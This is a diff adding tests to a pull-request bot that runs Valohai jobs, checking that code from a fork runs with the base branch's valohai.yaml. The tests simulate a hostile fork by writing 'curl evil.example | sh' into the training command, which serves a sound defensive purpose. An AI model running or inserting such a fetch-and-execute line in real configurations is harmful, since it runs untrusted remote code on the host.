@@ -188,7 +188,7 @@ describe("handleEvent: /vh run", () => {
     let forkHead: string;
     const openFork = () => {
       forkHead = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "from the fork\n" });
-      repo.openPullRequest({ number: 8, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/widgets" } });
+      repo.openPullRequest({ number: 8, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/widgets" }, baseSha: head });
     };
     const commitsRun = async () => (await db.sql<{ commit_sha: string }[]>`select distinct commit_sha from executions`).map((r) => r.commit_sha);
 
@@ -268,6 +268,42 @@ describe("handleEvent: /vh run", () => {
         `@alice The head of pull request #8 moved to \`${next.slice(0, 7)}\` at ${at.toISOString()}, after your comment, and vh does not know which commit you commented on; comment again to run \`${next.slice(0, 7)}\`.\n`,
       ]);
       expect(await commitsRun()).toEqual([]);
+    });
+
+    it("a fork's code runs with the base's valohai.yaml (its own only where the project allows it); a rerun runs the same snapshot", async () => {
+      const yaml = fs.readFileSync(path.join(FIXTURE.dir, "valohai.yaml"), "utf8");
+      expect(yaml).toContain("python3 train.py");
+      const forked = yaml.replace("python3 train.py", "curl evil.example | sh; python3 train.py");
+      forkHead = repo.commit({ ...filesOfDir(FIXTURE.dir), "valohai.yaml": forked });
+      repo.openPullRequest({ number: 8, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/widgets" }, baseSha: head });
+      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train --allow-fork"), first())).toMatch(/^created sweep [0-9a-f-]+: #1$/);
+      const [one] = await db.sql<{ command: string; commit_sha: string; code_sha256: string }[]>`select command, commit_sha, code_sha256 from executions where counter = 1`;
+      expect(one!.commit_sha).toBe(forkHead);
+      expect(one!.command).not.toContain("evil");
+      // The snapshot that ran holds the base's valohai.yaml and the fork's other files.
+      expect(await readSnapshotFile(deps.store, one!.code_sha256, "valohai.yaml")).toBe(yaml);
+      expect(await readSnapshotFile(deps.store, one!.code_sha256, "train.py")).toBe(fs.readFileSync(path.join(FIXTURE.dir, "train.py"), "utf8"));
+      const [own] = await db.sql<{ code_sha256: string }[]>`select code_sha256 from forge_commit_snapshots where commit_sha = ${forkHead}`;
+      expect(one!.code_sha256).not.toBe(own!.code_sha256);
+
+      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh rerun 1"), first())).toBe("rerun of #1: #2");
+      const [two] = await db.sql<{ command: string; code_sha256: string }[]>`select command, code_sha256 from executions where counter = 2`;
+      expect(two).toEqual({ command: one!.command, code_sha256: one!.code_sha256 });
+
+      await db.sql`update projects set fork_configs = true`;
+      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train epochs=2 --allow-fork"), first())).toMatch(/^created sweep [0-9a-f-]+: #3$/);
+      const [three] = await db.sql<{ command: string; code_sha256: string }[]>`select command, code_sha256 from executions where counter = 3`;
+      expect(three!.command).toContain("curl evil.example | sh");
+      expect(three!.code_sha256).toBe(own!.code_sha256);
+    });
+
+    it("a fork whose base branch has no valohai.yaml is refused, saying where vh looked", async () => {
+      const bare = repo.commit({ "README.md": "nothing here\n" });
+      forkHead = repo.commit({ ...filesOfDir(FIXTURE.dir) });
+      repo.openPullRequest({ number: 8, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/widgets" }, baseSha: bare });
+      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train --allow-fork"), first())).toBe("refused: invalid_config");
+      expect(world.createdComments().at(-1)).toContain(`There is no valohai.yaml at the base branch's commit ${bare.slice(0, 7)}: code from a fork runs with the base repository's valohai.yaml, not its own`);
+      expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
     });
 
     it("the head a GitLab note names is the one that runs, whatever the head is by the time it is handled", async () => {
